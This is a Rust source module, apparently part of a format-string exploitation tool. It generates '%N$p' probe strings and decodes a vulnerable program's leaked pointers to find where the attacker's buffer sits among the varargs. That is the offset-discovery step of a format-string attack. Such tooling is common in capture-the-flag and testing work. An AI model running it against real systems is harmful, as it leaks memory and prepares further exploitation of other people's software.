//! Offset discovery: generate a probe format string, then decode the
//! victim's rendering of it to find where the buffer sits in the varargs.

use crate::architectures::Architecture;

/// Literal marker that opens every probe
pub const PATTERN_HEADER: &str = "ABCDEFGH";

/// Generate a probe that fits in `buffer_size` bytes: the marker followed by
/// `|%N$p` fields for consecutive varargs indices starting at
/// `start_offset`.
pub fn make_pattern(buffer_size: usize, start_offset: usize) -> String {
    let mut pattern = String::from(PATTERN_HEADER);
    let mut offset = start_offset;

    loop {
        let probe = format!("|%{offset}$p");
        if pattern.len() + probe.len() > buffer_size {
            break;
        }
        pattern.push_str(&probe);
        offset += 1;
    }

    pattern
}

/// Decode the victim's rendering of a probe made with the same
/// `start_offset`.
///
/// Returns the buffer's varargs index and the padding needed to word-align
/// it, or `None` when the marker does not appear in the leaked words (look
/// forward, or the architecture is wrong).
pub fn compute_offset(
    buffer: &str,
    start_offset: usize,
    arch: &Architecture,
) -> Option<(usize, usize)> {
    let word = arch.bytes();
    // glibc renders a NULL %p as "(nil)"
    let buffer = buffer.trim().replace("(nil)", "0x0");

    let mut fields: Vec<&str> = buffer.split('|').collect();
    if fields.first() == Some(&PATTERN_HEADER) {
        fields.remove(0);
    }

    let mut memory = Vec::new();
    for field in fields {
        let digits = field.trim().trim_start_matches("0x");
        let value = u64::from_str_radix(digits, 16).ok()?;
        memory.extend(arch.pack_address(value).ok()?);
    }

    let needle = b"ABCDEFGH|%";
    let at = memory.windows(needle.len()).position(|w| w == needle)?;
    if at % word == 0 {
        Some((start_offset + at / word, 0))
    } else {
        Some((start_offset + at / word + 1, word - at % word))
    }
}
